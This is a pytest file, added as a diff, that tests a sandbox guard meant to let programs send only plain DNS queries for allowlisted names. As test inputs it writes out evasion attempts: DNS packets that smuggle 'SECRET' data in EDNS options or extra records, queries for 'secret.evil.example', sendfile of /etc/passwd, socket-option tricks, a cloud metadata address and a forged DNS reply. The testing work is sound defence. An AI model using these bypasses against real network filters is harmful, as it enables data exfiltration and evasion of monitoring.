@@ -1,0 +1,371 @@
+"""Programs that speak DNS themselves: plain questions about allowed names reach the system's name server, nothing else
+does, and what it answers may be reached."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import socket
+import struct
+import subprocess
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import dns.message
+import pytest
+
+from tests.attacks.sinks import ALLOWED, OUTSIDE, RESOLVER
+from tests.support import LAUNCHER, UNGUARDED, Event, clean_environment, policy_file, rules, split_events
+
+NAMESERVER = Path(__file__).with_name("nameserver.py")
+ENTRIES = [{"host": "api.allowed.example"}, {"host": "*.allowed.example"}]
+POLICY = rules({"mode": "block", "allow": ENTRIES})
+REPORTS = rules({"mode": "alert", "allow": ENTRIES})
+
+
+def _namespaces() -> bool:
+    return subprocess.run(["unshare", "-rnm", "true"], capture_output=True, check=False).returncode == 0
+
+
+pytestmark = pytest.mark.skipif(not _namespaces(), reason="no network namespaces here")
+
+
+@dataclass
+class Run:
+    """What a program said, and what its network saw."""
+
+    returncode: int
+    lines: list[str]
+    stderr: str
+    events: list[Event]
+    asked: list[bytes]
+    tcp: list[str]
+    heard: list[str]
+
+    @property
+    def names(self) -> list[str]:
+        """The names that the server was asked for."""
+        return [
+            dns.message.from_wire(packet, ignore_trailing=True).question[0].name.to_text(omit_final_dot=True)
+            for packet in self.asked
+        ]
+
+    @property
+    def violations(self) -> list[Event]:
+        return [event for event in self.events if event["event"] == "violation"]
+
+
+Runner = Callable[..., Run]
+
+
+@pytest.fixture
+def run(tmp_path: Path) -> Runner:
+    """Runs a command in a network of its own."""
+
+    def go(*command: str, policy: Any = POLICY, guarded: bool = True) -> Run:
+        seen = tmp_path / "seen.json"
+        inside = ["unshare", "-rnm", sys.executable, str(NAMESERVER), str(seen), str(tmp_path / "resolv.conf"), "--"]
+        launcher = [str(LAUNCHER)] if guarded and not UNGUARDED else []
+        done = subprocess.run(
+            [*inside, *launcher, *command],
+            env=clean_environment({"FUNCTION_SHIELD_POLICY": policy_file(policy), "AWS_LAMBDA_RUNTIME_API": ""}),
+            cwd=tmp_path,
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=False,
+        )
+        stderr, events = split_events(done.stderr)
+        noted = json.loads(seen.read_text())
+        asked = [bytes.fromhex(packet) for packet in noted["asked"]]
+        return Run(done.returncode, done.stdout.splitlines(), stderr, events, asked, noted["tcp"], noted["heard"])
+
+    return go
+
+
+def python(run: Runner, code: str, **options: Any) -> Run:
+    return run(sys.executable, "-c", code, **options)
+
+
+def packet(
+    name: str, identity: int = 7, kind: int = 1, *, flags: int = 0x0100, more: bytes = b"", records: int = 0
+) -> bytes:
+    """A query."""
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return struct.pack(">6H", identity, flags, 1, 0, 0, records) + labels + b"\0" + struct.pack(">2H", kind, 1) + more
+
+
+TRY = f"""
+import socket, struct
+RESOLVER = ({RESOLVER!r}, 53)
+def reach(host):
+    out = socket.socket()
+    out.settimeout(3)
+    try:
+        out.connect((host, 443))
+        print(host, "reached")
+    except PermissionError:
+        print(host, "refused")
+    finally:
+        out.close()
+"""
+
+DNSPYTHON = """
+import dns.resolver
+for name in {names!r}:
+    try:
+        for found in dns.resolver.resolve(name, {kind!r}):
+            print(name, found)
+    except Exception as error:
+        print(name, type(error).__name__)
+"""
+
+
+def test_dnspython_asks_for_allowed_names_and_reaches_them(run: Runner) -> None:
+    code = (
+        DNSPYTHON.format(names=["api.allowed.example", "alias.allowed.example"], kind="A") + TRY + f"reach({ALLOWED!r})"
+    )
+    result = python(run, code)
+    assert result.lines == [f"api.allowed.example {ALLOWED}", f"alias.allowed.example {ALLOWED}", f"{ALLOWED} reached"]
+    assert result.heard == [ALLOWED]
+    assert result.violations == []
+
+
+def test_dnspython_asks_for_no_other_name(run: Runner) -> None:
+    result = python(run, DNSPYTHON.format(names=["secret.evil.example"], kind="A"))
+    assert result.asked == []
+    assert [event["details"]["host"] for event in result.violations][:1] == ["secret.evil.example"]
+    assert result.violations[0]["reason"] == "no_rule"
+
+
+def test_text_of_an_allowed_name(run: Runner) -> None:
+    result = python(run, DNSPYTHON.format(names=["text.allowed.example"], kind="TXT"))
+    assert result.lines == ['text.allowed.example "hello"']
+
+
+def test_without_a_look_up_the_address_is_nobodys(run: Runner) -> None:
+    result = python(run, TRY + f"reach({ALLOWED!r})")
+    assert result.lines == [f"{ALLOWED} refused"]
+    assert result.heard == []
+
+
+ASYNCIO = f"""
+import asyncio
+class Asks(asyncio.DatagramProtocol):
+    def connection_made(self, transport):
+        transport.sendto({packet("api.allowed.example")!r})
+    def datagram_received(self, data, address):
+        print(data[:2].hex()); done.set_result(None)
+async def main():
+    global done
+    loop = asyncio.get_running_loop()
+    done = loop.create_future()
+    await loop.create_datagram_endpoint(Asks, remote_addr=({RESOLVER!r}, 53))
+    await asyncio.wait_for(done, 5)
+asyncio.run(main())
+"""
+
+
+def test_asyncio(run: Runner) -> None:
+    result = python(run, ASYNCIO + TRY + f"reach({ALLOWED!r})")
+    assert result.lines == ["0007", f"{ALLOWED} reached"]
+
+
+SENDS = {
+    "sendto": "out.sendto(packet, RESOLVER)",
+    "send": "out.connect(RESOLVER); out.send(packet)",
+    "write": "out.connect(RESOLVER); os.write(out.fileno(), packet)",
+    "writev": "out.connect(RESOLVER); os.writev(out.fileno(), [packet[:9], packet[9:]])",
+    "sendmsg": "out.sendmsg([packet], [], 0, RESOLVER)",
+    "sendmsg, connected": "out.connect(RESOLVER); out.sendmsg([packet[:3], packet[3:]])",
+    "a second number": "out = out.dup(); out.connect(RESOLVER); out.send(packet)",
+}
+SEND = """
+import os
+out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+out.settimeout(2)
+packet = {packet!r}
+try:
+    {how}
+    print("sent")
+    out.{receive}
+except PermissionError:
+    print("refused")
+"""
+
+
+WAYS = [(how, "recv(512)") for how in SENDS.values()]
+WAYS += [(SENDS["sendto"], how) for how in ("recvfrom(512)", "recv_into(bytearray(512))", "recvmsg(512)")]
+
+
+@pytest.mark.parametrize(("how", "receive"), WAYS)
+def test_every_way_to_ask(run: Runner, how: str, receive: str) -> None:
+    code = TRY + SEND.format(packet=packet("api.allowed.example"), how=how, receive=receive) + f"reach({ALLOWED!r})"
+    result = python(run, code)
+    assert result.lines == ["sent", f"{ALLOWED} reached"], result.stderr
+    assert result.asked == [packet("api.allowed.example")]
+
+
+@pytest.mark.parametrize("how", SENDS.values(), ids=SENDS)
+def test_no_way_to_ask_for_another_name(run: Runner, how: str) -> None:
+    code = TRY + SEND.format(packet=packet("secret.evil.example"), how=how, receive="recv(512)")
+    result = python(run, code)
+    assert result.lines == ["refused"], result.stderr
+    assert result.asked == []
+    assert [event["details"]["host"] for event in result.violations] == ["secret.evil.example"]
+
+
+OPT = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
+COOKIE = b"\0" + struct.pack(">HHIHHH", 41, 1232, 0, 12, 10, 8) + b"SECRETS!"
+ALLOWED_NAME = "api.allowed.example"
+MALFORMED = {
+    "bytes after the question": packet(ALLOWED_NAME, more=b"SECRET"),
+    "bytes after the OPT record": packet(ALLOWED_NAME, more=OPT + b"SECRET", records=1),
+    "an unknown EDNS option": packet(
+        ALLOWED_NAME, more=OPT[:-2] + struct.pack(">3H", 10, 65001, 6) + b"SECRET", records=1
+    ),
+    "a second option after a cookie": packet(
+        ALLOWED_NAME,
+        more=OPT[:-2] + struct.pack(">3H", 22, 10, 8) + b"SECRETS!" + struct.pack(">2H", 65001, 6) + b"SECRET",
+        records=1,
+    ),
+    "another record": packet(ALLOWED_NAME, more=b"\0" + struct.pack(">HHIH", 16, 1, 0, 6) + b"SECRET", records=1),
+    "two questions": packet(ALLOWED_NAME)[:4] + b"\0\2" + packet(ALLOWED_NAME)[6:] + packet("a.evil.example")[12:],
+    "an update": packet(ALLOWED_NAME, flags=0x2800),
+    "an answer": packet(ALLOWED_NAME, flags=0x8180),
+    "reserved header bits": packet(ALLOWED_NAME, flags=0x010F),
+    "another class": packet(ALLOWED_NAME)[:-2] + b"\0\3",
+    "a zone transfer": packet(ALLOWED_NAME, kind=252),
+    "a type that nobody knows": packet(ALLOWED_NAME, kind=0x5345),
+    "no question at all": b"SECRET" * 8,
+    "nothing": b"",
+    "a name in a pointer": packet(ALLOWED_NAME)[:12] + b"\xc0\x0c\0\1\0\1",
+    "more than any question": packet(ALLOWED_NAME) + bytes(600),
+}
+
+
+@pytest.mark.parametrize("said", MALFORMED.values(), ids=MALFORMED)
+def test_nothing_but_plain_questions(run: Runner, said: bytes) -> None:
+    result = python(run, TRY + SEND.format(packet=said, how=SENDS["sendto"], receive="recv(512)"))
+    assert result.lines == ["refused"]
+    assert result.asked == []
+    assert result.violations[0]["reason"] == "malformed"
+
+
+def test_a_cookie_stays_here(run: Runner) -> None:
+    said = packet(ALLOWED_NAME, more=COOKIE, records=1)
+    result = python(run, TRY + SEND.format(packet=said, how=SENDS["sendto"], receive="recv(512)"))
+    assert result.lines == ["sent"]
+    assert result.asked == [packet(ALLOWED_NAME, more=OPT, records=1)]
+
+
+BEYOND = "out.sendto(b'SECRET', ('127.0.0.1', 9))"
+HELD_BACK = {
+    "MSG_MORE": "out.sendto({question!r}, socket.MSG_MORE, RESOLVER); " + BEYOND,
+    "UDP_CORK": "out.setsockopt(17, 1, 1); out.sendto({question!r}, RESOLVER); "
+    + BEYOND
+    + "; out.setsockopt(17, 1, 0)",
+    "another name server": "out.sendto({question!r}, ({outside!r}, 53))",
+    "a control message": "out.sendmsg([{question!r}], [(17, 103, b'\\x14\\0')], 0, RESOLVER)",
+    "sendfile": "out.connect(RESOLVER); os.sendfile(out.fileno(), os.open('/etc/passwd', 0), 0, 6)",
+    "a copy of a connected socket": "out.connect(RESOLVER); os.dup(out.fileno())",
+    "the server's own address": "out.bind(RESOLVER)",
+    "TCP": "out = socket.socket(); out.connect(RESOLVER)",
+    "fast open": "out = socket.socket(); out.sendto({question!r}, socket.MSG_FASTOPEN, RESOLVER)",
+}
+
+
+@pytest.mark.parametrize("how", HELD_BACK.values(), ids=HELD_BACK)
+def test_ways_around_the_reader(run: Runner, how: str) -> None:
+    how = how.format(question=packet(ALLOWED_NAME), outside=OUTSIDE)
+    result = python(run, TRY + SEND.format(packet=b"", how=how, receive="recv(512)"))
+    assert result.lines == ["refused"], result.stderr
+    assert (result.asked, result.tcp) == ([], [])
+    assert result.violations != []
+
+
+def test_an_inherited_socket_is_read_in_the_child(run: Runner) -> None:
+    child = f"import os, sys; os.write(int(sys.argv[1]), {packet('secret.evil.example')!r})"
+    code = TRY + (
+        "import os, subprocess, sys\n"
+        "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.connect(RESOLVER)\n"
+        f"command = [sys.executable, '-c', {child!r}, str(out.fileno())]\n"
+        "done = subprocess.run(command, pass_fds=[out.fileno()], stderr=subprocess.DEVNULL)\n"
+        "print(done.returncode)\n"
+    )
+    result = python(run, code)
+    assert result.lines == ["1"]
+    assert result.asked == []
+
+
+def test_what_a_name_cannot_stand_for(run: Runner) -> None:
+    code = DNSPYTHON.format(names=["metadata.allowed.example", "local.allowed.example"], kind="A")
+    code += "import socket\nsocket.getaddrinfo('metadata.allowed.example', 443)\n" + TRY + "reach('169.254.169.254')"
+    result = python(run, code)
+    assert result.lines[-1] == "169.254.169.254 refused"
+    assert result.heard == []
+
+
+def test_records_of_other_names_are_not_learnt(run: Runner) -> None:
+    code = (
+        DNSPYTHON.format(names=["beside.allowed.example"], kind="A")
+        + TRY
+        + f"reach('127.66.66.70'); reach({OUTSIDE!r})"
+    )
+    result = python(run, code)
+    assert result.lines[-2:] == ["127.66.66.70 reached", f"{OUTSIDE} refused"]
+
+
+def test_an_answer_of_somebody_else_is_not_learnt(run: Runner) -> None:
+    """The forger knows id, question and port, and his datagram lies in the queue first."""
+    forged = packet(ALLOWED_NAME)[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + packet(ALLOWED_NAME)[12:]
+    forged += b"\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4" + socket.inet_aton(OUTSIDE)
+    code = TRY + (
+        "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.bind(('127.0.0.1', 0))\n"
+        "forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        f"forger.sendto({forged!r}, out.getsockname())\n"
+        f"out.sendto({packet(ALLOWED_NAME)!r}, RESOLVER)\n"
+        "print(out.recvfrom(512)[1][0]); print(out.recvfrom(512)[1][0])\n"
+        f"reach({OUTSIDE!r})\n"
+    )
+    result = python(run, code)
+    assert result.lines == ["127.0.0.1", RESOLVER, f"{OUTSIDE} refused"]
+
+
+NODE = """
+const dns = require('dns'), net = require('net');
+dns.resolve4(process.argv[1], (error, found) => {
+    console.log(error ? error.code : found.join());
+    if (error) return;
+    const out = net.connect(443, found[0], () => { console.log('reached'); out.destroy(); });
+    out.on('error', (problem) => console.log(problem.code));
+});
+"""
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="no node here")
+@pytest.mark.parametrize("name", ["api.allowed.example", "alias.allowed.example"])
+def test_node_asks_for_allowed_names(run: Runner, name: str) -> None:
+    result = run("node", "-e", NODE, name)
+    assert result.lines == [ALLOWED, "reached"]
+    assert result.violations == []
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="no node here")
+def test_node_asks_for_no_other_name(run: Runner) -> None:
+    result = run("node", "-e", NODE, "secret.evil.example")
+    assert len(result.lines) == 1
+    assert result.asked == []
+    assert result.violations[0]["details"]["host"] == "secret.evil.example"
+
+
+def test_alert_changes_nothing_and_tells_once(run: Runner) -> None:
+    said = packet("secret.evil.example", more=COOKIE, records=1)
+    code = TRY + SEND.format(packet=said, how=SENDS["send"], receive="recv(512)") + f"reach({OUTSIDE!r})"
+    bare, result = python(run, code, guarded=False), python(run, code, policy=REPORTS)
+    assert result.lines == bare.lines == ["sent", f"{OUTSIDE} reached"]
+    assert result.asked == bare.asked == [said]
+    assert [event["details"]["host"] for event in result.violations] == ["secret.evil.example"]
